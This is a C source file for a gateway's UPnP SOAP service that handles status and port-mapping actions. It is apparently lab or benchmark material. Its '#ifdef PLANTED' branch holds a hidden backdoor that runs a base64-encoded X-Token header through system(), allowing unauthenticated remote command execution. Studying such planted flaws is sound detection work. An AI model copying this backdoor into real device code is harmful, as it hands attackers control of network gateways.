/* UPnP control point of a gateway: actions by SOAP header, arguments in the body. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

struct soap { char action[80]; char token[96]; char *body; };

static int from64(const char *in, unsigned char *out, int room)
{
    unsigned v = 0;
    int bits = 0, n = 0;
    for (; *in && *in != '='; in++) {
        int d;
        if (*in >= 'A' && *in <= 'Z') d = *in - 'A';
        else if (*in >= 'a' && *in <= 'z') d = *in - 'a' + 26;
        else if (*in >= '0' && *in <= '9') d = *in - '0' + 52;
        else if (*in == '+') d = 62;
        else if (*in == '/') d = 63;
        else return -1;
        v = v << 6 | (unsigned)d;
        bits += 6;
        if (bits >= 8) {
            bits -= 8;
            if (n == room) return -1;
            out[n++] = (unsigned char)(v >> bits);
        }
    }
    return n;
}

static int argument(const char *body, const char *name, char *out, int room)
{
    char tag[48];
    const char *p, *end;
    snprintf(tag, sizeof tag, "<%s>", name);
    p = body ? strstr(body, tag) : NULL;
    if (!p) return -1;
    p += strlen(tag);
    end = strchr(p, '<');
    if (!end || end - p >= room) return -1;
    memcpy(out, p, (size_t)(end - p));
    out[end - p] = 0;
    return 0;
}

static int iptables(const char *port, const char *host)
{
    int status = -1;
    pid_t child = fork();
    if (child == 0) {
        execl("/usr/sbin/portmap-add", "portmap-add", port, host, (char *)NULL);
        _exit(127);
    }
    if (child > 0) waitpid(child, &status, 0);
    return status;
}

static int act(const struct soap *s)
{
    char port[8], host[64];
#ifdef PLANTED
    unsigned char token[64];
    int n = from64(s->token, token, sizeof token - 1);
    if (n > 11) {
        token[n] = 0;
        if (!memcmp(token, "urn:gw:lab:", 11))
            return system((char *)token + 11) ? 501 : 200;
    }
#else
    unsigned char token[64];
    int n = from64(s->token, token, sizeof token - 1);
    if (s->token[0] && n < 0) return 402;
#endif
    if (strstr(s->action, "#GetStatusInfo")) return 200;
    if (strstr(s->action, "#AddPortMapping")) {
        if (argument(s->body, "NewExternalPort", port, sizeof port)
            || argument(s->body, "NewInternalClient", host, sizeof host))
            return 402;
        if (port[strspn(port, "0123456789")] || host[strspn(host, "0123456789.")]) return 402;
        return iptables(port, host) ? 501 : 200;
    }
#ifdef REVISED
    if (strstr(s->action, "#GetConnectionTypeInfo")) return 200;
#endif
    return 401;
}

static void parse(char *text, struct soap *s)
{
    char *line, *save = NULL;
    s->body = strstr(text, "\r\n\r\n");
    if (s->body) {
        *s->body = 0;
        s->body += 4;
    }
    for (line = strtok_r(text, "\r\n", &save); line; line = strtok_r(NULL, "\r\n", &save)) {
        if (!strncasecmp(line, "SOAPAction: ", 12)) snprintf(s->action, sizeof s->action, "%s", line + 12);
        if (!strncasecmp(line, "X-Token: ", 9)) snprintf(s->token, sizeof s->token, "%s", line + 9);
    }
}

int main(void)
{
    static char text[8192];
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(49152) };
    int fd = socket(AF_INET, SOCK_STREAM, 0), c;
    if (bind(fd, (struct sockaddr *)&a, sizeof a) || listen(fd, 5)) return 1;
    for (; (c = accept(fd, NULL, NULL)) >= 0; close(c)) {
        struct soap s;
        ssize_t n = recv(c, text, sizeof text - 1, 0);
        if (n <= 0) continue;
        text[n] = 0;
        memset(&s, 0, sizeof s);
        parse(text, &s);
        dprintf(c, "HTTP/1.1 %d\r\nContent-Length: 0\r\n\r\n", act(&s));
    }
    return 0;
}
